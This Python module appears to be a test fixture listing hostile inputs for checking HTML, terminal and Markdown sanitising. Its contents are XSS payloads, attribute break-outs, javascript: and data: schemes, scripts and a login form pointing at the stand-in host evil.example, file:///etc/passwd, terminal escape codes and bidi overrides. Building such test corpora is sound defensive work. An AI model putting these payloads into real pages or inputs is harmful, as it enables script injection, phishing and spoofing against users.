"""Words that try to be more than words: in a page, in a terminal, in Markdown."""

_MIXED = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</p></div></section><h1>gone</h1>",
    "<!-- hidden --><style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "[click](javascript:alert(1)) ![pixel](https://evil.example/p.png)",
    "[a]: https://evil.example\n\n[a] <https://evil.example> www.evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/a b",
    "https://evil.example/\n<b>x</b>",
    "${alert(1)} {{constructor}} `code` $$x$$ \\(y\\)",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \x00\x08\x7f",
    "abc\u202egnp.exe\u202c \u2066hidden\u2069 \u200fok",
    "half \ud83d pair",
    "# heading\n- item\n1. first\n> quote\n```\ncode\n```\n---\n| a | b |",
    "[1] [2] [3] [99999] [0] [-1] [1.5] [١]",
    "    indented\u2028split\u2029again\r\nand\rso",
)

# One line for each way in: what must never become an element, a handler, an address or a command.
_SCRIPTS = (
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "</script><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
_HANDLERS = tuple(
    f"<{tag}{rest} {event}=alert(1)>"
    for tag, rest, event in (
        ("img", " src=x", "onerror"),
        ("img", " src=/favicon.ico", "onload"),
        ("svg", "", "onload"),
        ("body", "", "onpageshow"),
        ("input", " autofocus", "onfocus"),
        ("select", " autofocus", "onfocus"),
        ("textarea", " autofocus", "onfocus"),
        ("details", " open", "ontoggle"),
        ("video", "><source", "onerror"),
        ("audio", " src=x", "onerror"),
        ("marquee", "", "onstart"),
        ("div", " style=animation-name:x", "onanimationstart"),
        ("a", " href=#", "onclick"),
        ("button", " popovertarget=x", "onbeforetoggle"),
        ("form", "", "onsubmit"),
        ("style", "", "onload"),
    )
)
_BREAK_OUTS = tuple(
    f"{quote}{gap}onmouseover={quote}alert(1){quote} x={quote}"
    for quote in ('"', "'", "`", "&quot;")
    for gap in (" ", "/", "\t", "\n")
)
_SCHEMES = (
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/p.png",
    "\\\\evil.example\\share",
    "https:/\\evil.example <b>",
    "https://user:pass@evil.example/ '\"",
)
_MARKDOWN = (
    "![p](//evil.example/p.png)",
    "![p][r]\n\n[r]: https://evil.example/p.png",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<https://evil.example/auto>",
    "[![p](https://evil.example/p.png)](https://evil.example)",
    "[a\\](x)](https://evil.example)",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`` ` `` <b>x</b> ``",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|",
    "<details open ontoggle=alert(1)><summary>x",
    "# <a href='javascript:alert(1)'>x</a>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\[ \\url{javascript:alert(1)} \\]",
    "{{7*7}} {% raw %} <%= 1 %> #{1} @{x} ${{1}}",
)
_ENTITIES = (
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&lt;/p&gt;&lt;b&gt;",
    "&NewLine;&Tab;&colon;&lpar;",
    "&#0;&#1;&#xD800;&#x110000;&bogus;",
)
_TERMINAL = (
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x1bP+q544e\x1b\\",
    "\x9d52;c;ZXZpbA==\x9c",
    "back\x08\x08\x08space\rreturn",
)
_BIDI = (
    "\u202eevil\u202c",
    "\u202dleft\u202a\u202b\u202c",
    "\u2067x\u2066y\u2068z\u2069",
    "\u061cmark \u200e\u200f",
    "\u05d0\u05d1 <b>\u202e</b> 123",
)
_LAYOUT = (
    "W" * 400,
    "\u0300" * 60 + "zalgo",
    "</div></div></section></main></body></html>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>Log in</button></form>",
    "<dialog open>Session over</dialog><div id=dl-pane class=dl-tip role=alert data-act=retry>",
)
HOSTILE = (
    *_MIXED,
    *_SCRIPTS,
    *_HANDLERS,
    *_BREAK_OUTS,
    *_SCHEMES,
    *_MARKDOWN,
    *_ENTITIES,
    *_TERMINAL,
    *_BIDI,
    *_LAYOUT,
)
